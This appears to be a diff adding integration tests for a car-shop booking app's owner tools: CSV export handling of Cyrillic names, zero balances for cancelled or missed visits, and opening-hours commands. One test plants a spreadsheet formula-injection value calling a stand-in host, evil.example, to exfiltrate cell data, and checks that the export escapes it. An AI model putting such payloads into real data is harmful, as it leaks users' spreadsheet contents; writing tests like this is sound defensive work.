@@ -1,0 +1,74 @@
+"""The owner's CSV export and opening hours, as an owner opens them: in Excel, in
+Cyrillic, summing the balance column; and /hours after a day was closed and opened."""
+
+import csv
+import io
+from datetime import UTC, date, datetime
+
+import pytest
+
+from core import booking, owner
+from pitstop.fakes.telegram import FakeTelegram
+from pitstop.fakes.twilio import FakeTwilio
+from tests.integration.channel_helpers import start_pitstop
+from tests.integration.staff_helpers import WANJIRU, Clocked, book, verify_on_telegram
+from tests.integration.test_staff import MONDAY_9, OWNER_TG, at
+
+
+@pytest.fixture
+def story(sqlite_url, tmp_path):
+    with FakeTelegram() as telegram, FakeTwilio() as twilio:
+        yield Clocked(start_pitstop(sqlite_url, telegram, twilio, {"PITSTOP_VAR_DIR": str(tmp_path / "var")}))
+
+
+def exported(story, shop: int, tmp_path, lang: str = "en") -> bytes:
+    with story.db.uow() as uow:
+        path, _ = owner.export_csv(uow.session, shop, date(2026, 11, 1), date(2026, 11, 30), tmp_path / "x.csv", lang)
+    return path.read_bytes()
+
+
+def rows(data: bytes) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
+
+
+def test_a_name_or_plate_that_looks_like_a_formula_is_not_run_by_excel(story, tmp_path):
+    shop = story.shop_id("mwangaza-motors")
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    book(story.db, shop, "5550009", ["oil-change"], at(24, 10), MONDAY_9, name=evil, plate="@SUM(A1)")
+    [row] = rows(exported(story, shop, tmp_path))
+    assert (row["customer"], row["vehicle"]) == (f"'{evil}", "'@SUM(A1)")
+
+
+def test_the_export_opens_in_excel_with_cyrillic_names(story, tmp_path):
+    shop = story.shop_id("zhaiyk-auto")
+    book(story.db, shop, "5550077", ["oil-change"], datetime(2026, 11, 24, 5, 0, tzinfo=UTC), MONDAY_9, name="Алия",
+         language="ru", plate="123 ABC 06")  # fmt: skip
+    data = exported(story, shop, tmp_path, "ru")
+    assert data.startswith("\ufeff".encode())  # without the mark Excel reads the local code page: "РђР»РёСЏ"
+    assert rows(data)[0]["customer"] == "Алия"
+
+
+def test_a_cancelled_or_missed_visit_owes_nothing_in_the_export(story, tmp_path):
+    shop = story.shop_id("mwangaza-motors")
+    cancelled = book(story.db, shop, "5550011", ["oil-change"], at(25, 10), MONDAY_9, name="Brian")
+    missed = book(story.db, shop, "5550012", ["oil-change"], at(24, 10), MONDAY_9, name="Chege")
+    kept = book(story.db, shop, "5550013", ["oil-change"], at(26, 10), MONDAY_9, name="Dora")
+    booking.cancel(story.db, cancelled.id, "customer", MONDAY_9)
+    booking.mark_no_show(story.db, missed.id, "staff", at(24, 10, 30))
+
+    owed = {(r["code"], r["status"], r["balance"]) for r in rows(exported(story, shop, tmp_path))}
+
+    assert owed == {(cancelled.code, "cancelled", "0.00"), (missed.code, "no_show", "0.00"),
+                    (kept.code, "confirmed", "3500.00")}  # fmt: skip
+
+
+def test_hours_do_not_call_an_ordinary_day_opened_again_a_public_holiday(story):
+    verify_on_telegram(story, OWNER_TG, WANJIRU, MONDAY_9)
+    story.say(OWNER_TG, "/close 25.11 power cut", at(23, 10))
+    story.say(OWNER_TG, "/open 25.11", at(23, 11))
+    story.say(OWNER_TG, "/hours", at(23, 11))
+    hours = story.last(OWNER_TG)
+    assert "Wednesday: 08:00-18:00" in hours and "Wed 25 Nov" not in hours
+    story.say(OWNER_TG, "/open 25.12", at(23, 11))  # Christmas
+    story.say(OWNER_TG, "/hours", at(23, 11))
+    assert "Open on Fri 25 Dec (despite a public holiday)" in story.last(OWNER_TG)
